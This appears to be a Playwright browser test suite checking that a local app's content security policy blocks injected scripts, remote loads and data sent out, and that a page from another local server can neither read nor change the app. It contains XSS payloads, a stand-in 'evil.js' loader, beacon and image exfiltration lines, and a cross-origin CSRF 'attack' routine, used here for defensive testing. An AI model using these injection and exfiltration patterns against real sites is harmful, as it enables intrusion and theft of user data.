import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from '../support/app.ts';
import { reportTrials } from '../support/trials.ts';
import { readWords } from '../support/words.ts';

/*
 * P13, item 7, and P14 in a real browser: what has got into the page cannot run, load or send anything; and a page of
 * another server on this machine, open beside ours, gets nothing and changes nothing.
 */

const t = readWords('en');

interface Intruder {
  intruder?: number;
  refused?: string[];
}

/** Counts what runs (`intruder`) and what the policy refuses (by directive), from before the page's own first script. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const world = globalThis as Intruder;
    world.intruder = 0;
    world.refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      world.refused?.push(effectiveDirective);
    });
  });
}

const seen = (page: Page) =>
  page.evaluate(() => {
    const { intruder = -1, refused = [] } = globalThis as Intruder;
    return { intruder, refused: [...refused] };
  });

/** Ways from text to running code or to the network, each with the directive that says it refused it. */
const attempts: Record<string, { by: RegExp | null; run: (elsewhere: string) => unknown }> = {
  'a script with text': {
    // Chromium says so in its console only.
    by: null,
    run: () => {
      const script = document.createElement('script');
      script.append('globalThis.intruder += 1');
      document.body.append(script);
    },
  },
  'markup by innerHTML': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => {
      document.createElement('div').innerHTML = '<img src=x onerror="globalThis.intruder += 1">';
    },
  },
  'markup by insertAdjacentHTML': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => {
      document.body.insertAdjacentHTML('beforeend', '<svg onload="globalThis.intruder += 1"></svg>');
    },
  },
  'markup in a frame': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => {
      document.createElement('iframe').srcdoc = '<script>parent.intruder += 1</script>';
    },
  },
  'a document of markup': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  },
  'document.write': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => {
      // eslint-disable-next-line @typescript-eslint/no-deprecated -- this is what must not work
      document.write('<script>globalThis.intruder += 1</script>');
    },
  },
  'a handler in an attribute': {
    by: /^(?:script-src-attr|require-trusted-types-for)$/u,
    run: () => {
      const button = document.createElement('button');
      // Written so that trusted types are not asked first.
      const handler = document.createAttributeNS(null, 'onfocus');
      handler.value = 'globalThis.intruder += 1';
      button.setAttributeNode(handler);
      document.body.append(button);
      button.focus();
    },
  },
  'text handed to eval': {
    by: /^(?:script-src|require-trusted-types-for)$/u,
    run: () => void (0, eval)('globalThis.intruder += 1'),
  },
  'text handed to a timer': {
    by: /^(?:script-src|require-trusted-types-for)$/u,
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- this is what must not work
    run: () => setTimeout('globalThis.intruder += 1'),
  },
  'text handed to new Function': {
    by: /^(?:script-src|require-trusted-types-for)$/u,
    // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- this is what must not work
    run: () => void new Function('globalThis.intruder += 1')(),
  },
  'a worker from a text': {
    by: /^(?:require-trusted-types-for)$/u,
    run: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  },
  'a script from elsewhere': {
    by: /^(?:require-trusted-types-for)$/u,
    run: (elsewhere) => {
      document.createElement('script').src = `${elsewhere}/evil.js`;
    },
  },
  'a module from elsewhere': {
    by: /^(?:script-src-elem|require-trusted-types-for)$/u,
    run: (elsewhere) => import(`${elsewhere}/evil.js`),
  },
  'another policy of one’s own': {
    by: /^(?:trusted-types)$/u,
    run: () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
  },
  'an inline style': {
    by: /^(?:style-src-elem)$/u,
    run: () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  },
  'a style sheet from elsewhere': {
    by: /^(?:style-src-elem)$/u,
    run: (elsewhere) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}/a.css` }),
      );
    },
  },
  'a picture from elsewhere': {
    by: /^(?:img-src)$/u,
    run: (elsewhere) => {
      new Image().src = `${elsewhere}/pixel.png?stolen`;
    },
  },
  'a frame from elsewhere': {
    by: /^(?:frame-src)$/u,
    run: (elsewhere) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${elsewhere}/` }));
    },
  },
  'an object from elsewhere': {
    by: /^(?:object-src|require-trusted-types-for)$/u,
    run: (elsewhere) => {
      document.body.append(Object.assign(document.createElement('object'), { data: `${elsewhere}/a.svg` }));
    },
  },
  'a sound from elsewhere': {
    by: /^(?:media-src)$/u,
    run: (elsewhere) => {
      new Audio().src = `${elsewhere}/a.mp3`;
    },
  },
  'a request': { by: /^(?:connect-src)$/u, run: (elsewhere) => fetch(elsewhere) },
  'a beacon': { by: /^(?:connect-src)$/u, run: (elsewhere) => navigator.sendBeacon(`${elsewhere}/beacon`, 'stolen') },
  'a socket': { by: /^(?:connect-src)$/u, run: (elsewhere) => new WebSocket(elsewhere.replace('http', 'ws')) },
  'a stream of events': { by: /^(?:connect-src)$/u, run: (elsewhere) => new EventSource(elsewhere) },
  'a form': {
    by: /^(?:form-action)$/u,
    run: (elsewhere) => {
      const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  'another base of addresses': {
    by: /^(?:base-uri)$/u,
    run: (elsewhere) => {
      document.head.append(Object.assign(document.createElement('base'), { href: elsewhere }));
    },
  },
};

/** Another program of this machine that serves pages, and writes down what it is told. */
async function openElsewhere(html: string) {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      heard.push(`${request.method ?? ''} ${request.url ?? ''} ${body}`.trim());
      const type = request.url === '/evil.js' ? 'text/javascript' : 'text/html';
      response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
      response.end(request.url === '/evil.js' ? 'globalThis.intruder += 1' : html);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    heard,
    url: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

test('what has got into the page runs nothing, loads nothing and sends nothing', async ({ app, page }) => {
  const elsewhere = await openElsewhere('<title>elsewhere</title>');
  await watch(page);
  await app.start({ isSample: true });
  await app.open(page);
  await expect(page.getByRole('heading', { level: 1, name: t('first-run:title') })).toBeVisible();
  // Our own page asks for nothing that is refused.
  expect(await seen(page)).toEqual({ intruder: 0, refused: [] });
  const wrong: string[] = [];
  for (const [name, { by, run }] of Object.entries(attempts)) {
    const before = (await seen(page)).refused.length;
    // Not within the call of the test itself, which the policy lets do more than a page.
    await page.evaluate(
      `setTimeout(async () => { try { await (${run.toString()})(${JSON.stringify(elsewhere.url)}) } catch {} })`,
    );
    const refusals = async (): Promise<string[]> => (await seen(page)).refused.slice(before);
    await expect
      .poll(async () => by === null || (await refusals()).some((directive) => by.test(directive)), { timeout: 5_000 })
      .toBe(true)
      .catch(async () => wrong.push(`${name}: refused by [${(await refusals()).join()}]`));
    if ((await seen(page)).intruder !== 0) wrong.push(`${name}: it ran`);
  }
  expect(wrong).toEqual([]);
  expect(elsewhere.heard).toEqual([]);
  elsewhere.close();
  reportTrials('P13', Object.keys(attempts).length);
});

/** What runs in the other page; answers what it got hold of. */
async function attack(target: string): Promise<string[]> {
  const got: string[] = [];
  const trying = async (name: string, work: () => Promise<boolean>): Promise<void> => {
    if (
      await Promise.resolve()
        .then(work)
        .catch(() => false)
    )
      got.push(name);
  };
  const loads = (element: HTMLElement): Promise<boolean> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => {
        resolve(true);
      });
      element.addEventListener('error', () => {
        resolve(false);
      });
      document.body.append(element);
    });
  const json = { 'content-type': 'application/json' };
  for (const path of ['/', '/session', '/rpc/people/list', '/rpc/app/info']) {
    for (const method of ['GET', 'POST']) {
      const body = method === 'POST' ? '{}' : undefined;
      await trying(`${method} ${path}`, async () => {
        const answer = await fetch(target + path, {
          method,
          credentials: 'include',
          ...(body && { body, headers: json }),
        });
        return (await answer.text()) !== '';
      });
      // What a form could send as well: nobody may read the answer, and it must do nothing.
      await trying(`blind ${method} ${path}`, async () => {
        const answer = await fetch(target + path, {
          method,
          mode: 'no-cors',
          credentials: 'include',
          ...(body && { body }),
        });
        return (await answer.text()) !== '';
      });
    }
  }
  await trying('a picture', () => loads(Object.assign(new Image(), { src: `${target}/favicon.ico` })));
  await trying('a script', () => loads(Object.assign(document.createElement('script'), { src: `${target}/` })));
  await trying(
    'a socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(target.replace('http', 'ws'));
        socket.onopen = () => {
          resolve(true);
        };
        socket.onerror = () => {
          resolve(false);
        };
      }),
  );
  const frame = Object.assign(document.createElement('iframe'), { src: `${target}/`, name: 'inner' });
  await loads(frame);
  await trying('a frame', () => Promise.resolve((frame.contentDocument?.body.textContent ?? '') !== ''));
  const form = Object.assign(document.createElement('form'), {
    action: `${target}/rpc/history/undo`,
    method: 'post',
    enctype: 'text/plain',
    target: 'inner',
  });
  document.body.append(form);
  form.submit();
  await loads(frame);
  await trying('what the form answered', () => Promise.resolve((frame.contentDocument?.body.textContent ?? '') !== ''));
  const opened = window.open(`${target}/`);
  // Until it has gone there it is an empty page of the stranger's own.
  const isStillOwn = (): boolean => {
    try {
      return opened?.closed === false && opened.location.href === 'about:blank';
    } catch {
      return false;
    }
  };
  while (isStillOwn()) await new Promise((resolve) => requestAnimationFrame(resolve));
  await trying('the storage of a window', () => Promise.resolve(opened?.sessionStorage.length !== undefined));
  await trying('the text of a window', () => Promise.resolve((opened?.document.body.textContent ?? '') !== ''));
  opened?.close();
  await trying('storage of its own with ours in it', () =>
    Promise.resolve(sessionStorage.length + localStorage.length > 0 || document.cookie !== ''),
  );
  return got;
}

test('P14: a page of another server on this machine gets nothing and changes nothing', async ({
  app,
  page,
  context,
}) => {
  const elsewhere = await openElsewhere('<title>elsewhere</title><body></body>');
  await app.start({ isSample: true });
  await app.open(page);
  await expect(page.getByRole('heading', { level: 1, name: t('first-run:title') })).toBeVisible();
  const client = await app.connect();
  const look = async () => [await client.history.state(), await client.meetings.list(), await client.people.list()];
  const before = await look();
  const target = new URL(page.url()).origin;

  const stranger = await context.newPage();
  await stranger.goto(elsewhere.url);
  expect(await stranger.evaluate(attack, target)).toEqual([]);
  expect(await look()).toEqual(before);
  // Ours still has its own access.
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name: t('first-run:title') })).toBeVisible();
  elsewhere.close();
  reportTrials('P14', 24);
});
